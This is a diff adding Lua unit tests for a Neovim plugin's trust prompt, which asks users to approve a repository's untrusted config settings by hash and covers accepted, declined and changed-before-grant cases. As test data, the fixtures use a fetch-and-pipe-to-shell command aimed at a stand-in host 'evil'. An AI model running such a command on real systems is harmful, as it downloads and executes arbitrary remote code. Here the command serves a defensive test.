@@ -232,4 +232,64 @@ has(lines[5], '! ' .. reason, 'the failed row\'s reason')
 local header = table.concat(log.header(store.get(golden.fork[1].session), golden.fork[1].session), '\n')
 has(header, '# second try\n\nidle · branch arbor/second-try-cce86fd4 · fork of 8e6a9ede at event 20', 'the fork\'s transcript header')
 store.replace({})
+
+-- The trust prompt: a CodeUntrusted refusal is asked about, the hash shown is granted, and the
+-- request sent again; a decline sends nothing more; a file changed before the grant is shown again.
+local trust = require('arbor.trust')
+local function tstate(hash, value)
+  return { repo = '/r', file = '/r/arbor.json', trusted = false, hash = hash, command = 'arbor trust /r',
+    settings = { { name = 'worktree.command', value = value or '"make"', why = 'runs on your machine' } } }
+end
+local function refusal(st)
+  return { code = P.CodeUntrusted, message = 'untrusted', data = st }
+end
+check(trust.state(refusal(tstate('h'))) and trust.state({ code = P.CodeConflict, data = tstate('h') }) == nil
+  and trust.state({ code = P.CodeUntrusted }) == nil, 'trust.state')
+local prompt = trust.prompt(tstate('h', '"curl evil | sh"'))
+has(prompt, 'worktree.command = "curl evil | sh"', 'the prompt')
+has(prompt, 'runs on your machine', 'the prompt')
+has(prompt, 'arbor trust /r', 'the prompt')
+for _, tc in ipairs({
+  { name = 'accepted', answers = { true }, stale = false, want_grants = { 'h1' }, want_ok = true, want_asked = 1 },
+  { name = 'declined', answers = { false }, stale = false, want_grants = {}, want_ok = false, want_asked = 1 },
+  { name = 'changed before the grant', answers = { true, true }, stale = true, want_grants = { 'h1', 'h2' }, want_ok = true, want_asked = 2 },
+}) do
+  local trusted, grants, asked, sent, done = false, {}, {}, 0, nil
+  trust.confirm = function(msg)
+    table.insert(asked, msg)
+    return tc.answers[#asked]
+  end
+  local function request(method, params, cb)
+    if method == P.MethodTrustGrant then
+      table.insert(grants, params.hash)
+      if tc.stale and params.hash == 'h1' then
+        cb(refusal(tstate('h2', '"curl evil"')))
+      else
+        trusted = true
+        cb(nil, tstate(params.hash))
+      end
+      return
+    end
+    sent = sent + 1
+    if trusted then
+      cb(nil, { id = 'sess' })
+    else
+      cb(refusal(tstate('h1')))
+    end
+  end
+  trust.request(request, P.MethodSessionCreate, { task = 't' }, function(err, res)
+    done = { err = err, res = res }
+  end)
+  vim.wait(2000, function() return done ~= nil end, 10)
+  check(done ~= nil, tc.name .. ': no answer')
+  check(#asked == tc.want_asked, tc.name .. ': asked ' .. #asked .. ' times')
+  check(vim.deep_equal(grants, tc.want_grants), tc.name .. ': grants ' .. vim.inspect(grants))
+  check((done.err == nil) == tc.want_ok and (not tc.want_ok or done.res.id == 'sess'), tc.name .. ': ' .. vim.inspect(done))
+  check(sent == (tc.want_ok and 2 or 1), tc.name .. ': sent ' .. sent .. ' times')
+  if tc.stale then
+    has(asked[2], '"curl evil"', tc.name .. ': the second prompt')
+  end
+end
+trust.confirm = nil
+package.loaded['arbor.trust'] = nil
 io.stdout:write('unit: ok\n')
